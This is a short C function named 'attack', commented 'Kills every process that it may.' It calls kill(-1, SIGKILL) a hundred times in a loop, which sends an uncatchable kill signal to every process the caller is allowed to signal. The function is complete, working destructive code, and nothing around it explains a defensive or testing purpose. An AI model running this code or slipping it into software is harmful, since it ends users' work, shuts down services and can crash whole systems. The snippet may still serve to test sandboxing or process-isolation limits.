// Kills every process that it may.
void attack() {
  for (int i = 0; i < 100; ++i) kill(-1, SIGKILL);
}
